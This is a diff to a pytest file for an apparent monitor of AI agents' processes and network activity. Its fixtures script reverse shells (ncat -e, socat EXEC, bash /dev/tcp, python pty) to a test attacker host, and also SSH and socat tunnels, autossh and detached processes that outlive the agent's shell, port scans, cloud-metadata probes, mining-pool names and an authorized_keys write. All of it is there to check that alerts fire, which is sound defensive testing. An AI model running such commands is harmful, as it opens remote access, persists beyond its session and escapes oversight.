@@ -61,11 +61,13 @@ def tunnels(agentwatch, sshd, local_service, poker, relay_server, net):
     host, port = relay_server
     remote = " ".join(sshd.ssh("-N", "-R", f"2201:127.0.0.1:{local_service}", f"root@{NET_IP}"))
     config = f"ssh -F {hidden} -N root@{NET_IP}"
-    local = " ".join(sshd.ssh("-N", "-L", "9000:127.0.0.1:80", f"root@{NET_IP}"))
+    local = " ".join(sshd.ssh("-N", "-L", "127.0.0.1:9000:127.0.0.1:80", f"root@{NET_IP}"))
     socks = " ".join(sshd.ssh("-N", "-D", "1080", f"root@{NET_IP}"))
     relay = f"timeout 5 socat TCP:{host}:{port} TCP:127.0.0.1:{local_service}"
+    exposed = f"socat TCP-LISTEN:9100,bind=127.0.0.1,fork TCP:{NET_IP}:80"
+    proxied = " ".join(sshd.ssh("-o", "'ProxyCommand=ncat %h %p'", f"root@{NET_IP}", "true"))
     script = (f"{remote} & r=$!; {config} & c=$!; {local} & l=$!; {socks} & d=$!; {relay} & "
-              "sleep 2; kill $r $c $l $d; wait")
+              f"{exposed} & e=$!; {proxied}; sleep 2; kill $r $c $l $d $e; wait")
     return agentwatch(["sh", "-c", script], labels={"scenario": "tunnels"})
 
 
@@ -97,7 +99,22 @@ def test_ssh_forward_hidden_in_a_config_file(tunnels):
 
 
 def test_ssh_local_forward(tunnels):
-    assert_alert(tunnels, "ssh-port-forward", "T1572", tunnels.pids_that_exec(ssh_with("-L")))
+    ssh = tunnels.pids_that_exec(ssh_with("-L"))
+    assert_alert(tunnels, "ssh-port-forward", "T1572", ssh)
+    assert_alert(tunnels, "ip-port-to-ip-port-argv", "T1572", ssh)
+
+
+def test_ssh_through_a_proxy_command(tunnels):
+    """ssh -o ProxyCommand=ncat: ssh is flagged, and ncat gives itself away by writing the SSH banner."""
+    assert_alert(tunnels, "ssh-proxy-command", "T1572", tunnels.pids_that_exec(ssh_with("ProxyCommand=ncat %h %p")))
+    ncat = tunnels.pids_that_exec(lambda p: p["comm"] == "ncat")
+    alert = assert_alert(tunnels, "ssh-banner-from-non-ssh-binary", "T1572", ncat)
+    assert alert["evidence"][-1]["payload"]["text"].startswith("SSH-2.0-OpenSSH")
+
+
+def test_socat_exposes_a_port(tunnels):
+    exposed = tunnels.pids_that_exec(lambda p: p["comm"] == "socat" and "TCP-LISTEN:9100" in " ".join(p["argv"]))
+    assert_alert(tunnels, "socat-listen-relay", "T1572", exposed)
 
 
 def test_ssh_socks_proxy(tunnels):
@@ -105,7 +122,7 @@ def test_ssh_socks_proxy(tunnels):
 
 
 def test_socat_reverse_relay(tunnels):
-    [socat] = tunnels.pids_that_exec(lambda p: p["comm"] == "socat")
+    [socat] = tunnels.pids_that_exec(lambda p: p["comm"] == "socat" and "TCP:198.18.0.1:7001" in p["argv"])
     assert_alert(tunnels, "socat-reverse-relay", "T1572", socat)
     alert = assert_alert(tunnels, "reverse-tunnel-behaviour", "T1572", socat)
     assert alert["evidence"][0]["network"]["dport"] == 7001
@@ -127,7 +144,9 @@ def background_tunnels(agentwatch, sshd, local_service, poker):
     poker(2203)
     ssh = " ".join(sshd.ssh("-f", "-N", "-R", f"2202:127.0.0.1:{local_service}", f"root@{NET_IP}"))
     autossh = f"autossh -M 0 -f -N -R 2203:127.0.0.1:{local_service} -F {sshd.config} root@{NET_IP}"
-    return agentwatch(["sh", "-c", f"{ssh} && {autossh}"], linger=3, labels={"scenario": "background-tunnels"})
+    later = "sh -c 'sleep 0.5; exec /bin/true detached' &"  # runs on after the agent's sh is gone
+    return agentwatch(["sh", "-c", f"{ssh} && {autossh} && {later}"], linger=3,
+                      labels={"scenario": "background-tunnels"})
 
 
 def _tunnel_child(run, exec_pid: int) -> dict:
@@ -162,6 +181,13 @@ def test_ssh_background_tunnel_is_reported_as_an_escape(background_tunnels):
     assert child["pid"] in run.survivors()
 
 
+def test_detached_exec(background_tunnels):
+    run = background_tunnels
+    alert = assert_alert(run, "detached-process-exec", "T1036.009",
+                         run.pids_that_exec(lambda p: p["argv"] == ["/bin/true", "detached"]))
+    assert alert["severity"] == "low"
+
+
 def test_autossh(background_tunnels):
     run = background_tunnels
     assert_alert(run, "autossh", "T1572", run.pids_that_exec(lambda p: p["comm"] == "autossh"))
@@ -182,6 +208,7 @@ def reverse_shells(agentwatch, attacker):
           "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")")
     script = "; ".join([
         f"ncat {host} {port} -e /bin/sh",
+        f"socat TCP:{host}:{port} EXEC:/bin/sh",
         f"bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'",
         f"{PY} -c '{py}'",
     ])
@@ -195,6 +222,11 @@ def test_ncat_dash_e(reverse_shells):
     shells = run.pids_that_exec(lambda p: p["argv"] == ["/bin/sh"] and p["ancestry"][0]["pid"] == ncat)
     alert = assert_alert(run, "shell-after-network-tool-connect", "T1059.004", shells)
     assert alert["evidence"][0]["process"]["pid"] == ncat
+
+
+def test_socat_exec(reverse_shells):
+    socat = reverse_shells.pids_that_exec(lambda p: p["comm"] == "socat")
+    assert_alert(reverse_shells, "socat-exec", "T1059.004", socat)
 
 
 def test_bash_dev_tcp_by_argv(reverse_shells):
@@ -288,6 +320,7 @@ METADATA = textwrap.dedent("""\
     s.setblocking(False)
     s.connect_ex(("169.254.169.254", 80))
 """)
+EXTERNAL_SCAN = SCAN.replace("127.0.0.1", "198.18.0.1").replace("range(1, 101)", "range(1000, 1060)")
 DNS_QUERIES = textwrap.dedent("""\
     import socket, struct
     def query(name):
@@ -295,8 +328,32 @@ DNS_QUERIES = textwrap.dedent("""\
         q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
         return q + struct.pack(">HH", 1, 1)
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    for name in ("quick-fox.trycloudflare.com", "pool.supportxmr.com"):
+    for name in ("quick-fox.trycloudflare.com", "pool.supportxmr.com", "metadata.google.internal"):
         s.sendto(query(name), ("198.18.0.1", 53))
+""")
+TLS_HELLOS = textwrap.dedent("""\
+    import socket, ssl
+    ctx = ssl.create_default_context()
+    for sni in ("quick-fox.trycloudflare.com", "gulf.moneroocean.stream"):
+        try:
+            with socket.create_connection(("198.18.0.1", 443), timeout=2) as raw:
+                ctx.wrap_socket(raw, server_hostname=sni)
+        except (OSError, ssl.SSLError):
+            pass
+""")
+CHISEL_HANDSHAKE = textwrap.dedent("""\
+    import socket
+    s = socket.create_connection(("198.18.0.1", 80), timeout=2)
+    s.sendall(b"GET / HTTP/1.1\\r\\nHost: 198.18.0.1\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
+              b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Protocol: chisel-v3\\r\\n"
+              b"Sec-WebSocket-Version: 13\\r\\n\\r\\n")
+    s.recv(64)
+""")
+QUIC_EDGE = textwrap.dedent("""\
+    import socket
+    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    u.connect(("198.18.0.1", 7844))
+    u.send(b"\\xc0quic-initial")
 """)
 PARAMIKO_LIKE = textwrap.dedent("""\
     import socket
@@ -307,11 +364,25 @@ PARAMIKO_LIKE = textwrap.dedent("""\
 
 
 @pytest.fixture(scope="module")
-def probes(agentwatch, sshd):
-    """A scan of 100 ports, a host sweep, the metadata address; DNS names of a tunnel service and a
-    pool; SSH spoken by python; ssh to an sshd on 8443."""
-    script = "; ".join([f"{PY} -c '{code}'" for code in (SCAN, SWEEP, METADATA, DNS_QUERIES, PARAMIKO_LIKE)]
-                       + [" ".join(sshd.ssh("-p", "8443", f"root@{NET_IP}", "true"))])
+def probes(agentwatch, sshd, pool, web, net):
+    """Scans, a host sweep, the metadata address; DNS names and TLS SNIs of a tunnel service and a
+    pool; a chisel handshake; QUIC to cloudflared's edge port; SSH spoken by python, on 8443 and
+    on 2222; bash /dev/tcp; tools by name and argv shape; a key added to authorized_keys."""
+    bin_ = net.tmp / "bin"
+    bin_.mkdir(exist_ok=True)
+    for name in ("chisel", "svc", "nmap"):  # copies of true: only their names and argv matter
+        shutil.copy("/bin/true", bin_ / name)
+    codes = (SCAN, SWEEP, METADATA, EXTERNAL_SCAN, DNS_QUERIES, TLS_HELLOS, CHISEL_HANDSHAKE, QUIC_EDGE,
+             PARAMIKO_LIKE)
+    script = "; ".join([f"{PY} -c '{code}'" for code in codes] + [
+        " ".join(sshd.ssh("-p", "8443", f"root@{NET_IP}", "true")),
+        " ".join(sshd.ssh("-p", "2222", f"root@{NET_IP}", "true")),
+        f"bash -c 'echo hi > /dev/tcp/{NET_IP}/80'",
+        f"{bin_ / 'chisel'} client {NET_IP}:80 R:2222:127.0.0.1:22",
+        f"{bin_ / 'svc'} client {NET_IP}:80 R:2222:127.0.0.1:22",
+        f"{bin_ / 'nmap'} -sT -p 1-1024 10.99.0.0/24",
+        "mkdir -p $HOME/.ssh && echo ssh-ed25519 AAAAC3Nza test >> $HOME/.ssh/authorized_keys",
+    ])
     return agentwatch(["sh", "-c", script], labels={"scenario": "probes"})
 
 
@@ -345,3 +416,62 @@ def test_ssh_banner_from_python(probes):
 def test_ssh_on_a_web_port(probes):
     alert = assert_alert(probes, "ssh-banner-on-disguised-port", "T1572", probes.pids_that_exec(ssh_with("8443")))
     assert alert["network"]["dport"] == 8443
+
+
+def test_whole_agent_scan(probes):
+    alert = assert_alert(probes, "agent-internal-scan", "T1046",
+                         probes.pids_that_exec(python_running("range(1, 101)")) | probes.pids_that_exec(python_running("10.99.0.")))
+    assert alert["count"] >= 100
+
+
+def test_external_port_scan(probes):
+    assert_alert(probes, "external-port-scan", "T1046", probes.pids_that_exec(python_running("range(1000, 1060)")))
+
+
+def test_metadata_name_in_dns(probes):
+    alert = assert_alert(probes, "cloud-metadata-dns", "T1552.005", probes.pids_that_exec(python_running("metadata.google")))
+    assert alert["evidence"][-1]["dns"]["query"] == "metadata.google.internal"
+
+
+@pytest.mark.parametrize("rule, mitre", [("tunnel-service-tls", "T1572"), ("mining-pool-tls", "T1496")])
+def test_tls_server_names(probes, rule, mitre):
+    alert = assert_alert(probes, rule, mitre, probes.pids_that_exec(python_running("server_hostname")))
+    assert alert["evidence"][-1]["payload"]["text"].startswith("\\x16\\x03")
+
+
+def test_chisel_handshake(probes):
+    assert_alert(probes, "chisel-websocket-handshake", "T1572", probes.pids_that_exec(python_running("chisel-v3")))
+
+
+def test_cloudflared_edge_port(probes):
+    alert = assert_alert(probes, "cloudflared-edge-port", "T1572", probes.pids_that_exec(python_running("7844")))
+    assert alert["network"]["protocol"] == "udp"
+
+
+def test_ssh_on_an_unusual_port(probes):
+    alert = assert_alert(probes, "ssh-banner-unusual-port", "T1572", probes.pids_that_exec(ssh_with("2222")))
+    assert alert["severity"] == "medium"
+
+
+def test_dev_tcp_without_a_shell(probes):
+    assert_alert(probes, "dev-tcp-connection", "T1059.004",
+                 probes.pids_that_exec(lambda p: p["argv"][:2] == ["bash", "-c"] and "/dev/tcp/" in p["argv"][2]))
+    assert not probes.alerts_of("reverse-shell-dev-tcp")
+
+
+def test_tunnel_tools_by_name_and_by_argv(probes):
+    chisel = probes.pids_that_exec(lambda p: p["comm"] == "chisel")
+    renamed = probes.pids_that_exec(lambda p: p["comm"] == "svc")
+    assert_alert(probes, "tunnel-tool", "T1572", chisel)
+    assert_alert(probes, "tunnel-tool-argv", "T1572", chisel)
+    assert_alert(probes, "tunnel-tool-argv", "T1572", renamed)
+    assert not [a for a in probes.alerts_of("tunnel-tool") if a["process"]["pid"] in renamed]
+
+
+def test_scanner_by_name(probes):
+    assert_alert(probes, "network-scanner-tool", "T1046", probes.pids_that_exec(lambda p: p["comm"] == "nmap"))
+
+
+def test_authorized_keys_write(probes):
+    assert_alert(probes, "ssh-authorized-keys-write", "T1098.004",
+                 probes.pids_that_exec(lambda p: "authorized_keys" in " ".join(p["argv"])))
